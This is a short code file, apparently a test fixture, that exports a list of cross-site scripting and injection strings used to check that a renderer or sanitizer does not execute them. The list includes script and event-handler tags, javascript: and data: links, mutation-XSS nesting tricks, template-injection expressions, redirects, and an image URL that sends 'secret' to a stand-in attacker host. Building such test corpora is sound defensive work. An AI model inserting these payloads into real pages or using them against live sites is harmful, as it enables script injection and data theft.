/** Words that would act if anything took them for HTML, Markdown, a template or an address. */

/** Each would set `window.ran`, leave the page, or fetch from elsewhere, if anything took it for HTML. */
export const corpus = [
	'<script>window.ran=1</script>',
	'<img src=x onerror="window.ran=1">',
	'<img src="https://evil.example/?q=secret">',
	'![x](https://evil.example/p.png)',
	'![x](javascript:window.ran=1)',
	'[x](javascript:window.ran=1)',
	'[x](data:text/html,<script>window.ran=1</script>)',
	'<svg onload="window.ran=1"><use href="https://evil.example/x.svg#a"/></svg>',
	'<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>',
	'<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
	'<style>@import "https://evil.example/x.css";</style>',
	'<a href="https://evil.example" autofocus onfocus="window.ran=1">x</a>',
	'<form action="https://evil.example"><input name=a autofocus onfocus="window.ran=1"></form>',
	'<details open ontoggle="window.ran=1">x</details>',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'"><img src=x onerror=window.ran=1>',
	"'-window.ran=1-'",
	'{{constructor.constructor("window.ran=1")()}}',
	'${window.ran=1}',
	'<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
	'&lt;img src=x onerror=window.ran=1&gt;'
];
